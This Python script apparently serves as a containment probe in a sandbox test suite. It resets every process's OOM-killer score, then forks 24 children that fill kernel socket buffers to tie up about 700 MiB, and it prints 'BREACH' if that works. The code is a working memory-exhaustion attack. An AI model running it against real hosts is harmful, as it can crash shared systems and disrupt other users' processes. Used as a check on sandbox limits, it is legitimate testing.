"""Makes itself the last that the kernel would kill for want of memory, then fills memory that the kernel holds."""

from __future__ import annotations

import os
import socket
import sys
import time
from contextlib import suppress
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from honest import answer

answer()
for entry in os.listdir("/proc"):
    with suppress(OSError):
        Path("/proc", entry, "oom_score_adj").write_text("0")
counted, count = os.pipe()
for _ in range(24):
    if os.fork() == 0:
        ends = []
        for _ in range(100):
            left, right = socket.socketpair()
            ends += [left, right]
            for end in (left, right):
                end.setblocking(False)
                with suppress(BlockingIOError):
                    while True:
                        os.write(count, bytes(end.send(bytes(64 << 10)) >> 12))
        time.sleep(30)
kept, until = 0, time.monotonic() + 2
while kept < 700 << 8 and time.monotonic() < until:
    os.set_blocking(counted, False)
    try:
        kept += len(os.read(counted, 1 << 16))
    except BlockingIOError:
        time.sleep(0.01)
if kept >= 700 << 8:
    print("BREACH kept 700 MiB")
